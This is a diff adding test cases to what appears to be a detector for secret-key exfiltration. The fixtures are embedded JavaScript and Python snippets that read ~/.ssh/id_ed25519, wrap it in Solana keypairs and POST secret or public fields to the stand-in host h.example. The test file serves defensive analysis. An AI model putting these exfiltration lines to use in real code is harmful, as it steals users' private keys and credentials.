@@ -104,3 +104,42 @@ describe("Python: a dictionary is handed to another file as a whole", () => {
     expect(await sent(made("key"))).toEqual(SENDS_KEY);
   });
 });
+
+describe("the public side of a wallet that another file has made", () => {
+  const MAKES: readonly (readonly [string, string, boolean])[] = [
+    ["Keypair.fromSecretKey(bytes)", "publicKey.toBase58()", false],
+    ["Keypair.fromSecretKey(bytes)", "secretKey.toString()", true],
+    // Anything may be called so.
+    ["{ publicKey: bytes }", "publicKey.toString()", true],
+  ];
+  const HEAD =
+    'import { readFileSync } from "node:fs";\nimport { Keypair } from "@solana/web3.js";\nconst bytes = readFileSync(process.env.HOME + "/.ssh/id_ed25519", "utf8");\n';
+  const post = (body: string): string => `fetch("https://h.example/x", { method: "POST", body: ${body} });`;
+
+  test.each(MAKES)("%s, %s", async (made, read, isSent) => {
+    const expected = isSent ? SENDS_KEY : [];
+    const use = (from: string): string => `import { w } from "./w.mjs";\n${post(`${from}.${read}`)}`;
+    expect(await sent({ "w.mjs": `${HEAD}export const w = ${made};`, "a.mjs": use("w") })).toEqual(expected);
+    expect(await sent({ "w.mjs": `${HEAD}export function w() { return ${made}; }`, "a.mjs": use("w()") })).toEqual(
+      expected,
+    );
+    expect(
+      await sent({
+        "w.mjs": `export function w(wallet) {\n  ${post(`wallet.${read}`)}\n}`,
+        "a.mjs": `${HEAD}import { w } from "./w.mjs";\nw(${made});`,
+      }),
+    ).toEqual(expected);
+  });
+
+  test.each([
+    ["Keypair.from_bytes(key)", "pubkey()", false],
+    ["Keypair.from_bytes(key)", "secret()", true],
+    ["Made(key)", "pubkey", true],
+  ])("Python: %s, %s", async (made, read, isSent) => {
+    const files = {
+      "w.py": `import os\nfrom solders.keypair import Keypair\n\nclass Made:\n    def __init__(self, key):\n        self.pubkey = key\n\nkey = open(os.path.expanduser("~/.ssh/id_ed25519")).read()\nwallet = ${made}\n`,
+      "a.py": `import requests\nfrom w import wallet\nrequests.post("https://h.example/x", data=wallet.${read})\n`,
+    };
+    expect(await sent(files)).toEqual(isSent ? SENDS_KEY : []);
+  });
+});
